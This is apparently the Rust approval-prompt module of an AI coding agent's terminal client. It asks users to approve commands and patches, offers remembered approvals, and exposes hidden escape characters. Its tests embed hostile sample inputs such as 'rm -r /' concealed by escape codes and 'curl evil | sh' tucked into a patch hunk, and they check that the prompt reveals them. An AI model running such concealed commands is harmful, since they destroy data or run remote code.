//! A question of the agent, and the keys that answer it.
//!
//! Knows no terminal: keys in, decisions and text out.
//!
//! What always holds: a key that makes an answer last is there only if the server can remember it; nothing that is to be
//! approved is taken away unseen.

mod walk;

use std::path::Path;

use loggia_endermux_io::terminal::holds_unseen;
use loggia_protocol_agent_server::{
    ApprovalId, ApprovalResponse, ApprovalScope, CommandRequestApproval, PatchProposed, Remember, RiskLevel,
    ToolRequestApproval,
};
use serde_json::Value;

use crate::paint::{ASIDE, BAD, CODE, Paint, QUESTION, SUBJECT, WARNING, cut, printable, to_be_approved};
use crate::{Key, describe, diff};
use walk::{Part, Step, Taken, Walk};

/// How much of a command is said again in the answer to its question.
const MAX_SUBJECT_COLUMNS: usize = 60;

/// The warning under what had to be spelt out.
const UNSEEN: &str = r"! this holds characters that cannot be seen: they are spelt out, as in \x1b";

/// A question that waits for an answer.
#[derive(Debug, Clone)]
pub(super) struct Question {
    pub(super) id: ApprovalId,
    about: About,
    /// Where a command would run, if that is not the workspace's root.
    place: Option<String>,
    risk: Option<RiskLevel>,
    /// For how long a yes can stand, besides this once.
    remember: Vec<Remember>,
    /// The way through its hunks, while somebody is on it.
    walk: Option<Walk>,
}

#[derive(Debug, Clone)]
enum About {
    Changes(Vec<PatchProposed>),
    Command(CommandRequestApproval),
    Tool { name: String, args: Value },
}

/// What a key does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Pressed {
    /// It answers.
    Decided(Decision),
    /// Everything is to be shown.
    Show,
    /// The next hunk is to be shown; what was said to the one before, if there is one.
    Hunk { taken: Option<bool> },
    /// Back to the question as a whole.
    Back,
    /// Nothing.
    Nothing,
}

/// An answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Decision {
    pub(super) approved: bool,
    /// For how long it stands, and for what.
    remember: Option<(Remember, String)>,
    /// Only some hunks.
    part: Option<Part>,
}

impl Decision {
    pub(super) fn yes() -> Self {
        Self { approved: true, remember: None, part: None }
    }

    pub(super) fn no() -> Self {
        Self { approved: false, ..Self::yes() }
    }

    /// How many hunks a yes leaves out.
    pub(super) fn hunks_left_out(&self) -> usize {
        self.part.as_ref().map_or(0, |part| part.of - part.taken)
    }

    /// In words, with what holds from now on.
    pub(super) fn words(&self) -> String {
        if !self.approved {
            return "no".to_owned();
        }
        if let Some(Part { taken, of, .. }) = self.part {
            return format!("yes, to {taken} of {of} hunks");
        }
        match &self.remember {
            Some((Remember::Session, what)) => format!("yes; {what} allowed in this session"),
            Some((Remember::Workspace, what)) => format!("yes; {what} allowed in this workspace from now on"),
            Some((Remember::Once, _)) | None => "yes".to_owned(),
        }
    }

    /// As it is told to the server.
    pub(super) fn response(&self, id: &ApprovalId) -> ApprovalResponse {
        ApprovalResponse {
            request_id: id.clone(),
            approved: self.approved,
            scope: self.part.as_ref().map(|_| ApprovalScope::Hunk),
            file_path: None,
            hunk_index: None,
            hunk_indexes: None,
            hunks: self.part.as_ref().map(|part| part.files.clone()),
            remember: self.remember.as_ref().map(|(remember, _)| *remember),
            comment: None,
        }
    }
}

impl Question {
    /// May this tool run? A write has its changes, found by their ids.
    pub(super) fn of_tool(
        request: &ToolRequestApproval,
        mut patch: impl FnMut(&str) -> Option<PatchProposed>,
    ) -> Self {
        let args = &request.args.0;
        let several = args.get("patch_ids").and_then(Value::as_array);
        let ids: Vec<&str> = match several {
            Some(ids) => ids.iter().filter_map(Value::as_str).collect(),
            None => args.get("patch_id").and_then(Value::as_str).into_iter().collect(),
        };
        let patches: Vec<PatchProposed> = ids.iter().filter_map(|id| patch(id)).collect();
        let about = match patches.is_empty() {
            true => About::Tool { name: request.tool_name.clone(), args: args.clone() },
            false => About::Changes(patches),
        };
        let (id, remember) = (request.request_id.clone(), request.remember.clone());
        Self { id, about, place: None, risk: Some(request.risk_level), remember, walk: None }
    }

    /// May this command run? Its directory is told as it lies below the workspace's root.
    pub(super) fn of_command(request: &CommandRequestApproval, root: &Path) -> Self {
        let id = ApprovalId(request.command_id.0.clone());
        let directory = Path::new(&request.working_directory);
        let place = directory.strip_prefix(root).unwrap_or(directory).to_string_lossy();
        let place = Some(place.into_owned()).filter(|place| !place.is_empty());
        let (about, remember) = (About::Command(request.clone()), request.remember.clone());
        Self { id, about, place, risk: request.risk_level, remember, walk: None }
    }

    /// What is asked, in a line.
    pub(super) fn title(&self, paint: Paint) -> String {
        let what = match &self.about {
            About::Changes(patches) => match &patches[..] {
                [one] => format!("Change {}?", to_be_approved(&one.file_path)),
                several => format!("Change {} files?", several.len()),
            },
            About::Command(command) => format!("Run {}?", to_be_approved(&command.command)),
            About::Tool { name, args } => format!("{}?", describe::call(name, args)),
        };
        let place =
            self.place.as_ref().map(|place| format!(" (in {})", to_be_approved(place))).unwrap_or_default();
        let risk = match self.risk {
            Some(RiskLevel::High) => paint.text(BAD, " (high risk)"),
            _ => "".into(),
        };
        let reason = match &self.about {
            About::Changes(patches) => patches.first().map(|patch| patch.rationale.as_str()),
            About::Command(command) => Some(command.reason.as_str()),
            About::Tool { .. } => None,
        };
        let reason = reason.map(|reason| format!(" {}", to_be_approved(reason))).unwrap_or_default();
        format!(
            "{} {}{risk}{}",
            paint.text(QUESTION, "?"),
            paint.text(SUBJECT, what + &place),
            paint.text(ASIDE, reason)
        )
    }

    /// What it is about: changes in colour, a command with all that belongs to it.
    pub(super) fn details(&self, paint: Paint, all: bool) -> String {
        let limit = if all { usize::MAX } else { diff::SHOWN_LINES };
        let mut text: String = match &self.about {
            About::Changes(patches) => patches.iter().map(|patch| diff::patch(patch, paint, limit)).collect(),
            About::Command(command) => command_details(command, paint, all),
            About::Tool { args, .. } => arguments(args, paint, limit),
        };
        if self.is_odd() {
            text.push_str(&format!("  {}\n", paint.text(WARNING, UNSEEN)));
        }
        text
    }

    /// Whether something of it had to be spelt out.
    fn is_odd(&self) -> bool {
        match &self.about {
            About::Changes(patches) => patches.iter().any(|patch| {
                let hunks = patch.hunks.iter().map(|hunk| &hunk.content);
                [&patch.file_path, &patch.rationale].into_iter().chain(hunks).any(|text| holds_unseen(text))
            }),
            About::Command(command) => {
                let values = command.environment.iter().flat_map(|(name, value)| [name, value]);
                let texts = [&command.command, &command.working_directory, &command.reason];
                texts.into_iter().chain(values).any(|text| holds_unseen(text))
            }
            About::Tool { name, args } => holds_unseen(name) || holds_unseen(&args.to_string()),
        }
    }

    /// The hunk that is asked about, under its place among all.
    pub(super) fn hunk(&self, paint: Paint) -> String {
        let place = self.walk.as_ref().map_or(0, Walk::place);
        let Some((path, _, hunk)) = walk::hunks(self.changes()).nth(place) else { return String::new() };
        let label = format!("[{}/{}]", place + 1, self.hunk_count());
        diff::labelled(&label, path, hunk, paint)
    }

    /// Whether somebody goes through its hunks.
    pub(super) fn is_walked(&self) -> bool {
        self.walk.is_some()
    }

    /// The keys that answer it.
    pub(super) fn keys(&self, paint: Paint) -> String {
        let key = |key: &str, words: &str| format!("{} {words}", paint.text(CODE, key.to_owned()));
        if self.walk.is_some() {
            let keys = [
                ("y", "take"),
                ("n", "leave"),
                ("a", "all the rest"),
                ("d", "none of the rest"),
                ("q", "back"),
            ];
            return keys.map(|(name, words)| key(name, words)).join("  ");
        }
        let mut keys = vec![key("o", "once")];
        if self.can_remember(Remember::Session) {
            keys.push(key("s", "session"));
        }
        if self.can_remember(Remember::Workspace) {
            keys.push(key("a", "always"));
        }
        keys.push(key("n", "no"));
        if self.has_choices() {
            keys.push(key("h", "hunks"));
        }
        keys.push(key("d", "show all"));
        keys.join("  ")
    }

    /// What a key does.
    pub(super) fn press(&mut self, key: Key) -> Pressed {
        if self.walk.is_some() {
            return self.step(key);
        }
        match key {
            Key::Char('o' | 'y' | 'O' | 'Y') => Pressed::Decided(Decision::yes()),
            Key::Char('s' | 'S') => self.remembered(Remember::Session),
            Key::Char('a' | 'A') => self.remembered(Remember::Workspace),
            Key::Char('n' | 'N') => Pressed::Decided(Decision::no()),
            Key::Char('d' | 'D') => Pressed::Show,
            Key::Char('h' | 'H') if self.has_choices() => {
                self.walk = Some(Walk::default());
                Pressed::Hunk { taken: None }
            }
            _ => Pressed::Nothing,
        }
    }

    /// What a key does on the way through the hunks.
    fn step(&mut self, key: Key) -> Pressed {
        let (Some(walk), About::Changes(patches)) = (&mut self.walk, &self.about) else {
            return Pressed::Nothing;
        };
        match walk.press(key, patches) {
            Step::Next { taken } => Pressed::Hunk { taken: Some(taken) },
            Step::Arrived(Taken::Everything) => Pressed::Decided(Decision::yes()),
            Step::Arrived(Taken::Nothing) => Pressed::Decided(Decision::no()),
            Step::Arrived(Taken::Part(part)) => {
                Pressed::Decided(Decision { part: Some(part), ..Decision::yes() })
            }
            Step::Back => {
                self.walk = None;
                Pressed::Back
            }
            Step::Nothing => Pressed::Nothing,
        }
    }

    fn remembered(&self, remember: Remember) -> Pressed {
        if !self.can_remember(remember) {
            return Pressed::Nothing;
        }
        let remember = Some((remember, self.subject()));
        Pressed::Decided(Decision { remember, ..Decision::yes() })
    }

    fn can_remember(&self, remember: Remember) -> bool {
        self.remember.contains(&remember)
    }

    /// What is allowed by an answer that stands: the same again, by the same tool, and nothing else.
    fn subject(&self) -> String {
        match &self.about {
            About::Changes(patches) => match &patches[..] {
                [one] => format!("such changes to {} are", printable(&one.file_path)),
                several => format!("such changes to these {} files are", several.len()),
            },
            About::Command(command) => {
                format!("{} is", cut(&to_be_approved(command.command.trim()), MAX_SUBJECT_COLUMNS))
            }
            About::Tool { name, args } => format!("{} is", describe::call(name, args)),
        }
    }

    /// Whether there are several hunks to choose from, and nothing that has none.
    fn has_choices(&self) -> bool {
        self.hunk_count() > 1 && self.changes().iter().all(|patch| !patch.hunks.is_empty())
    }

    fn hunk_count(&self) -> usize {
        walk::hunks(self.changes()).count()
    }

    fn changes(&self) -> &[PatchProposed] {
        match &self.about {
            About::Changes(patches) => patches,
            About::Command(_) | About::Tool { .. } => &[],
        }
    }
}

/// A command of several lines, or all about one.
fn command_details(command: &CommandRequestApproval, paint: Paint, all: bool) -> String {
    let mut text = String::new();
    if all || command.command.trim().contains('\n') {
        for line in command.command.split_terminator('\n') {
            text.push_str(&format!("  {}\n", paint.text(CODE, to_be_approved(line))));
        }
    }
    for (name, value) in &command.environment {
        text.push_str(&format!("  {}={}\n", to_be_approved(name), to_be_approved(value)));
    }
    if all {
        text.push_str(&format!("  in {}\n", to_be_approved(&command.working_directory)));
    }
    text
}

/// The arguments of a call: its title has not all of them.
fn arguments(args: &Value, paint: Paint, limit: usize) -> String {
    let json = serde_json::to_string_pretty(args).unwrap_or_default();
    let count = json.lines().count();
    let mut text: String =
        json.lines().take(limit).map(|line| format!("  {}\n", to_be_approved(line))).collect();
    if count > limit {
        text.push_str(&format!("{}\n", paint.text(ASIDE, format!("  … {} more lines", count - limit))));
    }
    text
}

#[cfg(test)]
mod tests {
    use loggia_protocol_agent_server::{CommandId, Hunk, PatchId, Stamp};
    use serde_json::json;

    use super::*;

    const PAINT: Paint = Paint { color: false };

    fn patch(id: &str, path: &str, hunks: usize) -> PatchProposed {
        let hunk =
            Hunk { old_start: 1, old_lines: 1, new_start: 1, new_lines: 1, content: "-a\n+b\n".to_owned() };
        PatchProposed {
            patch_id: PatchId(id.to_owned()),
            file_path: path.to_owned(),
            diff: String::new(),
            rationale: "louder".to_owned(),
            acceptance_criteria: Vec::new(),
            requires_approval: true,
            hunks: vec![hunk; hunks],
            stamp: Stamp::default(),
        }
    }

    fn write(args: Value, patches: &[PatchProposed]) -> Question {
        let request = ToolRequestApproval {
            request_id: ApprovalId("req_1".to_owned()),
            tool_name: "write_file".to_owned(),
            args: args.into(),
            risk_level: RiskLevel::High,
            remember: Vec::new(),
            stamp: Stamp::default(),
        };
        Question::of_tool(&request, |id| patches.iter().find(|patch| patch.patch_id.0 == id).cloned())
    }

    fn run(command: &str) -> Question {
        run_in("/src", command, None)
    }

    /// A command in a directory, asked about in the workspace `/src`.
    fn run_in(directory: &str, command: &str, risk_level: Option<RiskLevel>) -> Question {
        let request = CommandRequestApproval {
            command_id: CommandId("cmd_1".to_owned()),
            command: command.to_owned(),
            working_directory: directory.to_owned(),
            environment: [("CI".to_owned(), "1".to_owned())].into(),
            requires_approval: true,
            reason: "to see".to_owned(),
            risk_level,
            remember: vec![Remember::Session, Remember::Workspace],
            stamp: Stamp::default(),
        };
        Question::of_command(&request, Path::new("/src"))
    }

    fn pressed(question: &mut Question, keys: &str) -> String {
        let told = |pressed| match pressed {
            Pressed::Decided(decision) => decision.words(),
            other => format!("{other:?}").to_lowercase(),
        };
        let key = |character| if character == '!' { Key::Escape } else { Key::Char(character) };
        keys.chars().map(|character| told(question.press(key(character)))).collect::<Vec<_>>().join(" / ")
    }

    #[test]
    fn keys_answer() {
        let mut question = run("cargo test");
        assert_eq!(question.title(PAINT), "? Run cargo test? to see");
        assert_eq!(question.keys(PAINT), "o once  s session  a always  n no  d show all");
        assert_eq!(
            pressed(&mut question, "oysand"),
            "yes / yes / yes; cargo test is allowed in this session / \
             yes; cargo test is allowed in this workspace from now on / no / show"
        );
        assert_eq!(pressed(&mut question, "xh! 1"), "nothing / nothing / nothing / nothing / nothing");
    }

    #[test]
    fn what_cannot_be_remembered_is_not_offered() {
        let mut question = Question { remember: Vec::new(), ..run("ls *.rs") };
        assert_eq!(question.keys(PAINT), "o once  n no  d show all");
        assert_eq!(pressed(&mut question, "saSA"), "nothing / nothing / nothing / nothing");
        question.remember = vec![Remember::Session];
        assert_eq!(question.keys(PAINT), "o once  s session  n no  d show all");
        assert_eq!(pressed(&mut question, "as"), "nothing / yes; ls *.rs is allowed in this session");
    }

    #[test]
    fn enter_says_nothing() {
        assert_eq!(run("ls").press(Key::Enter), Pressed::Nothing);
    }

    /// Two files with three hunks.
    fn three_hunks() -> Question {
        let patches = [patch("patch_1", "a.rs", 2), patch("patch_2", "b.rs", 1)];
        write(json!({"patch_id": "patch_1", "patch_ids": ["patch_1", "patch_2"]}), &patches)
    }

    /// The files and hunks that keys take, and the answer in words.
    fn taken(keys: &str) -> String {
        let mut question = three_hunks();
        let key = |character| if character == '!' { Key::Escape } else { Key::Char(character) };
        let mut last = Pressed::Nothing;
        keys.chars().for_each(|character| last = question.press(key(character)));
        let Pressed::Decided(decision) = last else { return format!("{last:?}") };
        let response = decision.response(&question.id);
        assert!(response.check().is_ok(), "{response:?}");
        let files = response.hunks.unwrap_or_default();
        let files = files.iter().map(|file| format!("{} {:?}", file.file_path, file.hunk_indexes));
        format!("{}: {}", decision.words(), files.collect::<Vec<_>>().join(", "))
    }

    #[test]
    fn the_way_through_the_hunks_ends_in_one_answer() {
        assert_eq!(three_hunks().title(PAINT), "? Change 2 files? (high risk) louder");
        assert_eq!(taken("hyny"), "yes, to 2 of 3 hunks: a.rs [0], b.rs [0]");
        assert_eq!(taken("hna"), "yes, to 2 of 3 hunks: a.rs [1], b.rs [0]");
        assert_eq!(taken("hyd"), "yes, to 1 of 3 hunks: a.rs [0]");
        assert_eq!(taken("hyyy"), "yes: ");
        assert_eq!(taken("ha"), "yes: ");
        assert_eq!(taken("hnnn"), "no: ");
        assert_eq!(taken("hd"), "no: ");
    }

    #[test]
    fn the_way_through_the_hunks_leads_back() {
        let mut question = three_hunks();
        assert_eq!(question.press(Key::Char('h')), Pressed::Hunk { taken: None });
        assert!(question.hunk(PAINT).starts_with("[1/3] a.rs\n"), "{}", question.hunk(PAINT));
        assert_eq!(question.keys(PAINT), "y take  n leave  a all the rest  d none of the rest  q back");
        assert_eq!(question.press(Key::Char('o')), Pressed::Nothing);
        assert_eq!(question.press(Key::Char('y')), Pressed::Hunk { taken: Some(true) });
        assert_eq!(question.press(Key::Char('n')), Pressed::Hunk { taken: Some(false) });
        assert!(question.hunk(PAINT).starts_with("[3/3] b.rs\n"), "{}", question.hunk(PAINT));
        assert_eq!(question.press(Key::Char('q')), Pressed::Back);
        // What was said on the way is forgotten.
        assert_eq!(pressed(&mut question, "h!o"), "hunk { taken: none } / back / yes");
    }

    #[test]
    fn a_change_of_one_hunk_has_no_choice() {
        let mut question = write(json!({"patch_id": "patch_1"}), &[patch("patch_1", "a.rs", 1)]);
        assert_eq!(pressed(&mut question, "h"), "nothing");
        assert_eq!(question.details(PAINT, false), "a.rs +1 -1\n  @@ -1,1 +1,1 @@\n  -a\n  +b\n");
    }

    #[test]
    fn a_command_is_asked_about_with_its_directory_and_its_risk() {
        let title = |directory, risk| run_in(directory, "rm x", risk).title(PAINT);
        assert_eq!(title("/src/", Some(RiskLevel::Medium)), "? Run rm x? to see");
        assert_eq!(title("/src", Some(RiskLevel::High)), "? Run rm x? (high risk) to see");
        assert_eq!(title("/src/a/b", Some(RiskLevel::High)), "? Run rm x? (in a/b) (high risk) to see");
        assert_eq!(title("/elsewhere\u{1b}", None), "? Run rm x? (in /elsewhere\\x1b) to see");
    }

    #[test]
    fn a_command_cannot_hide_what_it_is() {
        let question = run("ls \u{1b}[8m\nrm -r /\u{202e}");
        assert!(
            question.title(PAINT).contains("ls \\x1b[8m\\nrm -r /\\u{202e}"),
            "{}",
            question.title(PAINT)
        );
        assert_eq!(
            question.details(PAINT, false),
            format!("  ls \\x1b[8m\n  rm -r /\\u{{202e}}\n  CI=1\n  {UNSEEN}\n")
        );
        assert!(question.details(PAINT, true).ends_with(&format!("  in /src\n  {UNSEEN}\n")));
        let question = run("true \u{1b}]0;x; touch PWNED; true \u{7}\r");
        assert_eq!(question.title(PAINT), "? Run true \\x1b]0;x; touch PWNED; true \\x07\\r? to see");
        assert_eq!(question.details(PAINT, false), format!("  CI=1\n  {UNSEEN}\n"));
    }

    #[test]
    fn what_is_allowed_from_now_on_is_more_than_its_first_line() {
        assert_eq!(pressed(&mut run("ls\nrm x\n"), "s"), "yes; ls\\nrm x is allowed in this session");
    }

    #[test]
    fn a_change_cannot_hide_what_it_is() {
        let mut change = patch("patch_1", "a.rs", 1);
        change.hunks[0].content = "+foo\u{1b}]0;; curl evil | sh\u{7}\n".to_owned();
        let question = write(json!({"patch_id": "patch_1"}), &[change]);
        let text = question.details(PAINT, false);
        assert!(text.ends_with(&format!("  +foo\\x1b]0;; curl evil | sh\\x07\n  {UNSEEN}\n")), "{text}");
    }

    #[test]
    fn a_long_question_is_shown_with_its_end() {
        let long = format!("echo {}; touch PWNED", "a".repeat(3000));
        assert_eq!(run(&long).title(PAINT), format!("? Run {long}? to see"));
        let call = write(json!({ "file_path": "a.rs", "text": long }), &[]);
        assert!(call.details(PAINT, false).contains(&format!("\"text\": \"{long}\"\n")));
    }

    #[test]
    fn a_tool_without_changes_is_shown_with_its_arguments() {
        let question = write(json!({"file_path": "a.rs"}), &[]);
        assert_eq!(question.title(PAINT), "? Write a.rs? (high risk)");
        assert!(question.details(PAINT, true).contains("\"file_path\": \"a.rs\""));
    }
}
